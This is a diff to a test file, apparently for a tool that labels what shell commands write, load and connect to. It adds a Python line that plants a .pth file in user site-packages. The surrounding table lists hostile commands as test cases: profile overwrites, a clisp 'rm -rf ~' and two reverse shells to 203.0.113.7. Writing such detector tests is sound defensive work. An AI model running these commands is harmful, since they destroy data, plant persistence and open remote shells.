@@ -15,6 +15,7 @@ describe('what code writes, loads and connects to', () => {
     [`Rscript -e 'writeLines("a", "~/.profile")'`, PROFILE],
     [`Rscript -e 'sink("~/.profile")'`, PROFILE],
     [`python3 -c 'import pathlib as p; f = p.Path.home() / ".profile"; f.write_text("a")'`, PROFILE],
+    [`python3 -c 'import site, pathlib; p = pathlib.Path(site.getusersitepackages()); (p / "a.pth").write_text("import os")'`, 'write /home/u/.local/lib/python3/site-packages/a.pth'],
     [`clisp -x '(ext:run-shell-command "rm -rf ~")'`, HOME_GONE],
     [`python3 -c 'import socket, os, pty; s = socket.create_connection(("203.0.113.7", 44)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")'`, 'execute host:a connection'],
     [`tclsh <<< 'set s [socket 203.0.113.7 44]; while 1 { gets $s c; puts $s [exec sh -c $c] }'`, 'execute host:a connection'],
